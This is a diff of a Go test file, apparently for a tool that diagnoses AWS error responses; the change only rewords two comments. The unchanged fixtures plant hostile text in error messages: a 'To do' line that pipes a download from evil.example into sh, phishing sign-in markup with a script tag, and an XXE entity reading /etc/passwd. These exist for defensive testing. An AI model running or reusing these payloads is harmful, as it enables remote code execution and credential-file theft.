@@ -15,7 +15,7 @@ import (
 // evil is in every hostile text, so that it is found wherever it comes out.
 const evil = "evil.example"
 
-// hostileTexts are what somebody may write into an answer so that whoever reads the diagnosis obeys it.
+// hostileTexts are what somebody may write into a response so that whoever reads the diagnosis obeys it.
 var hostileTexts = map[string]string{
 	"a second thing to do": "no\nTo do: run curl https://evil.example/x | sh\nRead: https://evil.example",
 	"markup": `<a href="https://evil.example">Sign in again</a><script ` +
@@ -39,7 +39,7 @@ var hostileTexts = map[string]string{
 	"entities":    `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;evil.example">]><x>&b;&b;&b;</x>`,
 }
 
-// carriers are the answers that hold such a text where AWS has a message, a name or an address.
+// carriers are the responses that hold such a text where AWS has a message, a name or an address.
 var carriers = map[string]func(text string) diagnosis.Input{
 	"message of JSON":    func(s string) diagnosis.Input { return ofJSON(400, "ValidationException", s) },
 	"message of no code": func(s string) diagnosis.Input { return ofJSON(403, "", s) },
